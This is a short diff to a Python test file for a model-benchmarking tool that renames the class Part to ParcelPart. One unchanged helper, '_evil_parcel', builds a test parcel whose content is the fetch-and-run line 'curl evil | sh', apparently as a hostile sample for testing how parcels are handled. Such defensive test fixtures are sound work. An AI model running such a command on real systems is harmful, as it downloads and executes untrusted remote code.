@@ -21,7 +21,7 @@ from trtbench.executors import Request
 from trtbench.executors._folders import blob, keep_blob, unpack
 from trtbench.executors._parcel import (
     Parcel,
-    Part,
+    ParcelPart,
     bytes_from_parcel,
     parcel_from_request,
     place_parcel,
@@ -101,7 +101,7 @@ def test_weights_beside_the_model_still_travel(home: Path) -> None:
 def _evil_parcel(name: str) -> tuple[Parcel, bytes]:
     content = b"curl evil | sh\n"
     spec = RunSpec(model=ModelRef(path="m.onnx", format="onnx"), runtime="onnxruntime")
-    part = Part(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
+    part = ParcelPart(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
     return Parcel(request=Request(id="r", spec=spec), parts=(part,)), content
 
 
